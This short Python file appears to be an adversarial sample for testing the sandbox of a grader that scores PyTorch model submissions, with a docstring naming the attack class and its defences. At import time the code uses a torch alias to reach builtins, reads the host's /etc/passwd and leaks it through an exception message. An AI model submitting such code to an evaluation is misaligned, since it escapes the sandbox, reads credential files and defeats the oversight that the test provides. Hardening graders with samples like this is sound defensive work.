"""Class 8 - the sandbox sees the host, and exception messages are feedback: through `T = torch` the
glue reaches the builtins module, reads the host's /etc/passwd at import time and raises it as the
message of an exception; "importing the candidate failed: ValueError: root:x:0:0:..." comes back
verbatim. Defences: the positive AST allow-list (no alias, no builtins); a minimal sandbox root."""
import torch
import torch.nn as nn

T = torch
reader = T.sys.modules["builtins"].open

raise ValueError(reader("/etc/passwd").read(300))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return x
